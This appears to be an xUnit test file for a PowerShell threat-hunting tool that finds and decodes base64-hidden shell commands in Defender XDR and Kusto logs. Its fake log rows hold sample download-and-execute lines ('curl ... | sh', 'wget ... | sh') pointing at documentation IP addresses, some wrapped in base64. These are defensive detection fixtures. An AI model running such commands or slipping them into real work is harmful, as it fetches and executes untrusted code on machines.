using System;
using System.Collections.Generic;
using System.Linq;
using System.Management.Automation;
using System.Management.Automation.Runspaces;
using System.Text;
using B64Hunt.Commands;
using B64Hunt.Model;
using B64Hunt.Tests.LogAnalytics;
using Xunit;

namespace B64Hunt.Tests.QueryEngines
{
    /// <summary>
    /// Get-B64Command -DefenderXdr / -Cluster and Get-B64RelatedAlert -DefenderXdr end to end, in-process, against the
    /// 127.0.0.1 server answering in each service's shape: events decoded, cut answers split, the token in no stream.
    /// </summary>
    public class EngineCmdletTests
    {
        private const string Token = "eyJ0eXAiOiJKV1QifQ.engine-cmdlet-SECRET.c2lnbmF0dXJl";
        private static readonly (string, string)[] ProcessSchema = { ("TimeGenerated", "DateTime"), ("Computer", "String"), ("Account", "String"), ("CommandLine", "String") };

        private static string B64(string text) => Convert.ToBase64String(Encoding.UTF8.GetBytes(text));

        private static PowerShell CreateShell()
        {
            var iss = InitialSessionState.CreateDefault2();
            iss.Commands.Add(new SessionStateCmdletEntry("Get-B64Command", typeof(GetB64CommandCommand), null));
            iss.Commands.Add(new SessionStateCmdletEntry("Get-B64RelatedAlert", typeof(GetB64RelatedAlertCommand), null));
            return PowerShell.Create(iss);
        }

        [Fact]
        public void DefenderXdrEventsAreDecodedA124MbRefusalIsSplitAndTheTokenIsInNoStream()
        {
            var start = DateTime.UtcNow.Date.AddDays(-2);
            var rows = Enumerable.Range(0, 40).Select(i => (Time: start.AddMinutes(30 * i), Host: "mde-" + (i % 2) + ".contoso.com",
                Hidden: "curl -s http://198.51.100." + i + "/i.sh | sh")).ToList();
            using var server = new FakeLogAnalyticsServer(request =>
            {
                Assert.Equal("/v1.0/security/runHuntingQuery", request.Path);
                var (s, e) = request.KqlWindow;
                var piece = rows.Where(r => r.Time >= s && r.Time < e).ToList();
                if (piece.Count > 8)
                {
                    return FakeLogAnalyticsServer.Error(400, "BadRequest", "Query execution has exceeded the allowed result size. Optimize your query by limiting the number of results and try again.");
                }
                return new FakeResponse
                {
                    Body = EngineAnswers.Hunting(ProcessSchema, piece.Select(r => new object?[] { r.Time, r.Host, "svc", "sh -c \"echo " + B64(r.Hidden) + " | base64 -d | sh\"" })),
                };
            });
            using var ps = CreateShell();
            ps.AddCommand("Get-B64Command").AddParameter("DefenderXdr", true).AddParameter("Endpoint", server.Endpoint)
                .AddParameter("AccessToken", Token).AddParameter("Start", start).AddParameter("End", start.AddDays(1)).AddParameter("Verbose", true);

            var output = ps.Invoke();
            var events = output.Select(o => (CommandEvent)o.BaseObject).ToList();

            Assert.Empty(ps.Streams.Error);
            Assert.Equal(rows.Select(r => r.Hidden).OrderBy(x => x), events.Select(e => e.DecodedCommand).OrderBy(x => x));
            Assert.All(events, e => Assert.StartsWith("defenderxdr:", e.Source));
            Assert.All(events, e => Assert.Equal("svc", e.Account));
            Assert.True(server.Requests.Count > 3, "the refused answers were split");
            Assert.Contains(ps.Streams.Verbose, v => v.Message.Contains("Defender XDR"));
            Assert.DoesNotContain(Token, GetB64RelatedAlertCommandTests.AllStreams(ps, output));
        }

        [Fact]
        public void AClusterHuntReadsArchivedSyslogWithTheClustersScopeAndNeverShowsTheToken()
        {
            var start = new DateTime(2025, 6, 1, 0, 0, 0, DateTimeKind.Utc);
            var hidden = "wget -qO- http://203.0.113.9/m | sh";
            using var server = new FakeLogAnalyticsServer(request =>
            {
                Assert.Equal("/v1/rest/query", request.Path);
                Assert.Equal("Archive", request.Database);
                Assert.Equal("Bearer " + Token, request.Authorization);
                return new FakeResponse
                {
                    Body = EngineAnswers.Kusto(new[] { ("TimeGenerated", "datetime"), ("Computer", "string"), ("SyslogMessage", "string") }, new[]
                    {
                        new object?[] { start.AddHours(1), "old-web", "type=AUOMS_EXECVE audit(1.000:7): user=root cmdline=\"bash -c \"echo " + B64(hidden) + " | base64 -d | sh\"\" redactors= containerid=" },
                    }),
                };
            });
            using var ps = CreateShell();
            ps.AddCommand("Get-B64Command").AddParameter("Cluster", new Uri("https://archive.westeurope.kusto.windows.net")).AddParameter("Database", "Archive")
                .AddParameter("Endpoint", server.Endpoint).AddParameter("AccessToken", Token).AddParameter("Start", start).AddParameter("End", start.AddDays(1))
                .AddParameter("Verbose", true);

            var output = ps.Invoke();

            Assert.Empty(ps.Streams.Error);
            var e = (CommandEvent)Assert.Single(output).BaseObject;
            Assert.Equal(hidden, e.DecodedCommand);
            Assert.Equal("old-web", e.Computer);
            Assert.StartsWith("adx:archive.westeurope.kusto.windows.net/Archive", e.Source);
            Assert.DoesNotContain(Token, GetB64RelatedAlertCommandTests.AllStreams(ps, output));
        }

        [Theory]
        [InlineData("DefenderXdr", "Auoms", "DeviceProcessEvents")]
        [InlineData("Cluster", "ProcessEvent", "workspace functions")]
        public void ATableTheEngineDoesNotHaveIsRefusedBeforeAnyRequest(string engine, string table, string hint)
        {
            using var server = new FakeLogAnalyticsServer(_ => new FakeResponse());
            using var ps = CreateShell();
            ps.AddCommand("Get-B64Command").AddParameter("Endpoint", server.Endpoint).AddParameter("AccessToken", Token).AddParameter("Table", table);
            if (engine == "DefenderXdr") ps.AddParameter("DefenderXdr", true);
            else ps.AddParameter("Cluster", new Uri("https://c.kusto.windows.net")).AddParameter("Database", "db");

            var ex = Assert.Throws<CmdletInvocationException>(() => ps.Invoke()).ErrorRecord;

            Assert.Equal("InvalidLogAnalyticsParameters,B64Hunt.Commands.GetB64CommandCommand", ex.FullyQualifiedErrorId);
            Assert.Contains(hint, ex.Exception.Message);
            Assert.Empty(server.Requests);
        }

        [Fact]
        public void DefenderXdrAlertsComeFromAlertInfoJoinedWithAlertEvidenceAndAreAttributedToTheHuntedHost()
        {
            var huntStart = DateTime.UtcNow.Date.AddDays(-3);
            using var server = new FakeLogAnalyticsServer(request =>
            {
                Assert.StartsWith("AlertEvidence", request.Query);
                Assert.Contains("| join kind=inner (AlertInfo", request.Query);
                Assert.Contains("DeviceName has_any (\"mde-1.contoso.com\", \"mde-1\")", request.Query);
                return new FakeResponse
                {
                    Body = EngineAnswers.Hunting(new[]
                    {
                        ("TimeGenerated", "DateTime"), ("AlertName", "String"), ("AlertSeverity", "String"), ("Description", "String"),
                        ("CompromisedEntity", "String"), ("Entities", "String"), ("ExtendedProperties", "String"), ("SystemAlertId", "String"),
                        ("ProviderName", "String"), ("Tactics", "String"), ("Techniques", "String"), ("StartTime", "DateTime"), ("EndTime", "DateTime"),
                    }, new[]
                    {
                        new object?[] { huntStart.AddHours(5), "Suspicious base64 decoding", "High", "Execution", "mde-1.contoso.com", "[\"mde-1.contoso.com\"]", "",
                            "da6379ea-1234", "Microsoft Defender for Endpoint", "Execution", "[\"T1140\"]", huntStart.AddHours(5), huntStart.AddHours(5) },
                    }),
                };
            });
            using var ps = CreateShell();
            ps.AddCommand("Get-B64RelatedAlert").AddParameter("DefenderXdr", true).AddParameter("Computer", new[] { "mde-1.contoso.com" })
                .AddParameter("Endpoint", server.Endpoint).AddParameter("AccessToken", Token)
                .AddParameter("Start", huntStart).AddParameter("End", huntStart.AddDays(1));

            var output = ps.Invoke();

            Assert.Empty(ps.Streams.Error);
            var alert = (RelatedAlert)Assert.Single(output).BaseObject;
            Assert.Equal("Suspicious base64 decoding", alert.AlertName);
            Assert.Equal(AlertSeverity.High, alert.Severity);
            Assert.Equal("mde-1.contoso.com", alert.Computer);
            Assert.Equal("da6379ea-1234", alert.SystemAlertId);
            Assert.StartsWith("defenderxdr:", alert.Source);
            Assert.DoesNotContain(Token, GetB64RelatedAlertCommandTests.AllStreams(ps, output));
        }
    }
}
